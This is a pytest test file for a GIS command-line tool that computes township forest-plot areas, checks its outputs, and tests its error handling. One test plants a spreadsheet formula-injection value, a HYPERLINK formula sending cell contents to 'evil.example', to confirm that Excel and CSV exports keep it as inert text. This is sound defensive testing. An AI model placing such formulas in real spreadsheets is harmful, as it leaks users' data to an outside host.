"""The info / check / area / init commands through Click, and every bad input's message and exit code."""

import io
import json

import geopandas as gpd
import pandas as pd
import pytest
from pyproj import Geod

from geo_township.cli import COMMANDS, main


def run(runner, *args):
    return runner.invoke(main, [str(a) for a in args], catch_exceptions=False)


def test_registry_holds_the_expected_commands():
    for name in ("init", "info", "check", "area"):
        assert name in COMMANDS
    for name in COMMANDS:
        assert main.get_command(None, name) is not None, name


def test_info_lists_every_layer(runner, tiny_township):
    result = run(runner, "info", "--township", tiny_township)
    assert result.exit_code == 0
    for name in ("villages", "forest_plots", "infected_trees", "plots.shp", "EPSG:4527"):
        assert name in result.stdout
    assert "species←优势树种" in result.stdout


def test_area_csv_total_matches_geod(runner, tiny_township):
    result = run(runner, "area", "forest_plots", "--by", "village", "--unit", "mu", "--format", "csv",
                 "--township", tiny_township)
    assert result.exit_code == 0
    assert result.stdout.startswith("\ufeff")  # BOM for Excel
    table = pd.read_csv(io.StringIO(result.stdout.lstrip("\ufeff")))
    assert list(table.columns) == ["group", "count", "area_mu"]
    assert table["group"].iloc[-1] == "Total"
    plots = gpd.read_file(tiny_township / "plots.shp").to_crs(4490)
    geod = Geod(ellps="GRS80")
    expected = sum(abs(geod.geometry_area_perimeter(g)[0]) for g in plots.geometry) / (10000 / 15)
    assert table["area_mu"].iloc[-1] == pytest.approx(expected, rel=1e-4)
    assert table["area_mu"].iloc[:-1].sum() == pytest.approx(table["area_mu"].iloc[-1], abs=0.011)


def test_area_zh_and_planar_and_json_provenance(runner, tiny_township):
    zh = run(runner, "area", "forest_plots", "--by", "species", "--lang", "zh", "--format", "csv",
             "--township", tiny_township)
    assert "合计" in zh.stdout and "马尾松" in zh.stdout and "面积(亩)" in zh.stdout
    js = run(runner, "area", "forest_plots", "--method", "planar", "--unit", "ha", "--format", "json",
             "--township", tiny_township)
    data = json.loads(js.stdout)
    prov = data["provenance"]
    assert prov["area_method"] == "planar" and "Gauss" in prov["method_note"]
    assert prov["working_crs"] == "EPSG:4548"
    assert prov["inputs"][0]["file"].endswith("plots.shp")
    assert data["tables"]["summary"][-1]["group"] == "Total" and "area_ha" in data["tables"]["summary"][-1]
    table = run(runner, "area", "forest_plots", "--township", tiny_township)
    assert "ellipsoidal" in table.stdout  # says which method was used


def test_area_xlsx_has_provenance_sheet(runner, tiny_township, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "areas.xlsx"
    result = run(runner, "area", "forest_plots", "--by", "village", "-o", out, "--township", tiny_township)
    assert result.exit_code == 0
    wb = load_workbook(out)
    assert wb.sheetnames == ["summary", "About"]
    assert [c.value for c in wb["summary"][1]] == ["group", "count", "area_mu"]
    about = {row[0].value: row[1].value for row in wb["About"].iter_rows()}
    assert about["area_method"] == "ellipsoidal" and about["tool"].startswith("geo-township")


def test_check_exit_codes(runner, tiny_township):
    assert run(runner, "check", "--township", tiny_township).exit_code == 0
    (tiny_township / "trees.csv").write_text("编号,经度,纬度,状态\nT1,117.495,30.495,已伐\nT1,117.496,30.495,已伐\n",
                                             encoding="utf-8")
    result = run(runner, "check", "--township", tiny_township)
    assert result.exit_code == 1
    assert "duplicate_id" in result.stdout


def _append(path, text):
    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


@pytest.mark.parametrize("layer, breakage, message", [
    ("forest_plots", lambda d: (d / "plots.shp").unlink(), "file not found"),
    ("forest_plots", lambda d: (d / "plots.dbf").unlink(), ".dbf file is missing"),
    ("infected_trees", lambda d: (d / "trees.csv").write_bytes("编号,经度,纬度,状态\n".encode()
                                                               + "Café,117.5,30.5,felled\n".encode("latin-1")),
     "not UTF-8"),
    # a date not understood stops the layer (a status word not understood is a finding: test_tree_invariants)
    ("infected_trees", lambda d: (d / "trees.csv").write_text("编号,经度,纬度,状态,发现日期\n甲,117.5,30.5,已伐,昨天\n",
                                                              encoding="utf-8"), "not understood"),
    ("infected_trees", lambda d: (d / "trees.csv").write_text("编号,经度,纬度,状态\n", encoding="utf-8"), "empty"),
    ("infected_trees", lambda d: (d / "trees.csv").write_text("编号,东,北,状态\n甲,1,2,已伐\n", encoding="utf-8"),
     "no coordinate columns"),
    ("villages", lambda d: (d / "town.gpkg").write_bytes(b"not a geopackage at all"), "cannot"),
    ("villages", lambda d: (d / "township.toml").write_text("[township\n", encoding="utf-8"), "not valid TOML"),
    ("villages", lambda d: _append(d / "township.toml", 'fields = { tree = "编号" }\n'), "unknown field 'tree'"),
    ("villages", lambda d: _append(d / "township.toml", '[layers.forest_plot]\npath = "plots.shp"\n'),
     "unknown layer kind 'forest_plot'"),
    ("forest_plots", lambda d: (d / "plots.prj").unlink() or _append(d / "township.toml", ""),
     None),  # a GK shapefile without .prj is inferred, not an error
])
def test_bad_input_gives_a_message_and_exit_2(runner, tiny_township, layer, breakage, message):
    breakage(tiny_township)
    result = runner.invoke(main, ["area", layer, "--township", str(tiny_township)])
    if message is None:
        assert result.exit_code == 0, result.stderr
        return
    assert result.exit_code == 2, result.stdout
    assert "Traceback" not in result.stderr + result.stdout
    assert message in result.stderr
    assert result.stderr.startswith("Error: ")


def test_unknown_layer_and_field(runner, tiny_township):
    result = runner.invoke(main, ["area", "rivers", "--township", str(tiny_township)])
    assert result.exit_code == 2 and "no rivers layer" in result.stderr
    result = runner.invoke(main, ["area", "forest_plots", "--by", "colour", "--township", str(tiny_township)])
    assert result.exit_code == 2 and "no field 'colour'" in result.stderr


def test_verbose_shows_the_traceback(runner, tiny_township):
    (tiny_township / "plots.shp").unlink()
    quiet = runner.invoke(main, ["area", "forest_plots", "--township", str(tiny_township)])
    loud = runner.invoke(main, ["-v", "area", "forest_plots", "--township", str(tiny_township)])
    assert "Traceback" not in quiet.stderr and "Traceback" in loud.stderr


def test_no_township_found(runner, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(main, ["info"])
    assert result.exit_code == 2 and "geo-township init" in result.stderr


@pytest.mark.parametrize("command", [["info"], ["map", "--no-summary"], ["trees"]])
def test_no_township_says_how_to_start(runner, tmp_path, monkeypatch, command):
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(main, command)
    assert result.exit_code == 2 and "Traceback" not in result.stderr
    err = result.stderr
    assert err.startswith("Error: no township.toml in")
    assert "geo-township init DIR" in err and "geo-township init --sample DIR" in err and "--township PATH" in err


def test_no_township_in_chinese(runner, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(main, ["info", "--lang", "zh"])
    assert result.exit_code == 2
    err = result.stderr
    assert err.startswith("错误：") and "中都没有 township.toml" in err and "解决办法" in err
    assert "geo-township init 文件夹" in err and "geo-township init --sample 文件夹" in err and "--township" in err
    missing = runner.invoke(main, ["map", "--lang", "zh", "--township", str(tmp_path / "nowhere")])
    assert missing.exit_code == 2 and "找不到乡镇配置文件" in missing.stderr and "init --sample" in missing.stderr


def test_init_makes_a_working_township(runner, tmp_path, sample_dir):
    dest = tmp_path / "my-township"
    result = run(runner, "init", "--sample", dest)
    assert result.exit_code == 0, result.stderr
    assert (dest / "township.toml").exists()
    info = run(runner, "info", "--township", dest)
    assert info.exit_code == 0
    again = runner.invoke(main, ["init", "--sample", str(dest)])
    assert again.exit_code == 2 and "already holds" in again.stderr


def test_xlsx_needs_an_output_file(runner, tiny_township):
    result = runner.invoke(main, ["area", "forest_plots", "--format", "xlsx", "--township", str(tiny_township)])
    assert result.exit_code == 2 and "-o" in result.stderr


def test_done_when_on_the_sample(runner, sample_dir):
    """Issue 2's 'done when': info lists every sample layer, and the per-village forest area
    total agrees with an independent ellipsoidal computation on the layer file to 0.01%."""
    import tomllib

    info = run(runner, "info", "--township", sample_dir)
    assert info.exit_code == 0
    kinds = tomllib.loads((sample_dir / "township.toml").read_text(encoding="utf-8"))["layers"]
    for kind in kinds:
        assert kind in info.stdout
    result = run(runner, "area", "forest_plots", "--by", "village", "--unit", "mu", "--format", "csv",
                 "--township", sample_dir)
    table = pd.read_csv(io.StringIO(result.stdout.lstrip("\ufeff")))
    plots = gpd.read_file(sample_dir / "forest_plots.shp", encoding="gb18030").to_crs(4490)
    geod = Geod(ellps="GRS80")
    expected = sum(abs(geod.geometry_area_perimeter(g)[0]) for g in plots.geometry) / (10000 / 15)
    assert table["area_mu"].iloc[-1] == pytest.approx(expected, rel=1e-4)
    by_village = plots.assign(mu=[abs(geod.geometry_area_perimeter(g)[0]) / (10000 / 15) for g in plots.geometry]
                              ).groupby("村名")["mu"].sum()
    got = table.set_index("group")["area_mu"].drop("Total")
    assert set(got.index) == set(by_village.index)
    for village, mu in by_village.items():
        assert got[village] == pytest.approx(mu, abs=0.006)


def test_values_are_never_console_markup(runner, tiny_township):
    """A village called '[/]' or '[bold]x' prints as typed and breaks nothing."""
    import geopandas as gpd

    villages = gpd.read_file(tiny_township / "town.gpkg", layer="villages")
    villages["村名"] = ["[/]甲村", "[link=http://x]乙村"]
    villages.to_file(tiny_township / "town.gpkg", layer="villages")
    result = run(runner, "area", "villages", "--by", "village", "--township", tiny_township)
    assert result.exit_code == 0, result.stderr
    assert "[/]甲村" in result.stdout and "[link=http://x]乙村" in result.stdout


def test_formulas_in_data_stay_text_in_excel_and_csv(runner, tiny_township, tmp_path):
    import geopandas as gpd
    from openpyxl import load_workbook

    villages = gpd.read_file(tiny_township / "town.gpkg", layer="villages")
    villages["村名"] = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2"]
    villages.to_file(tiny_township / "town.gpkg", layer="villages")
    out = tmp_path / "v.xlsx"
    assert run(runner, "area", "villages", "--by", "village", "-o", out, "--township", tiny_township).exit_code == 0
    ws = load_workbook(out)["summary"]
    cells = [ws.cell(row=r, column=1) for r in range(2, 4)]
    assert all(c.data_type == "s" for c in cells)
    assert {c.value for c in cells} == {'=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2"}
    csv = run(runner, "area", "villages", "--by", "village", "--format", "csv", "--township", tiny_township).stdout
    assert "'=HYPERLINK" in csv and "'+1+2" in csv
    assert ",-" not in csv  # numbers untouched


def test_repaired_geometries_are_announced_by_every_command(runner, tiny_township):
    import geopandas as gpd
    from shapely.geometry import Polygon

    villages = gpd.read_file(tiny_township / "town.gpkg", layer="villages")
    villages.loc[0, "geometry"] = Polygon([(117.49, 30.49), (117.50, 30.50), (117.50, 30.49), (117.49, 30.50)])
    villages.to_file(tiny_township / "town.gpkg", layer="villages")
    result = run(runner, "area", "villages", "--township", tiny_township, "--format", "json")
    assert result.exit_code == 0
    assert "invalid geometry repaired" in result.stderr and "甲村" in result.stderr
    assert json.loads(result.stdout)["provenance"]["inputs"][0]["geometries_repaired"] == ["甲村"]


def test_area_of_points_or_lines_is_refused(runner, tiny_township):
    result = runner.invoke(main, ["area", "infected_trees", "--township", str(tiny_township)])
    assert result.exit_code == 2 and "points, which have no area" in result.stderr


def test_info_exits_2_when_a_layer_cannot_be_read_and_lists_rasters(runner, tiny_township, sample_dir):
    (tiny_township / "trees.csv").write_text("编号,东,北\n1,2,3\n", encoding="utf-8")
    result = runner.invoke(main, ["info", "--township", str(tiny_township)])
    assert result.exit_code == 2
    assert "no coordinate columns" in result.stdout and "villages" in result.stdout
    sample = run(runner, "info", "--township", sample_dir)
    assert "Rasters" in sample.stdout and "715 × 524" in sample.stdout  # the DEM's grid
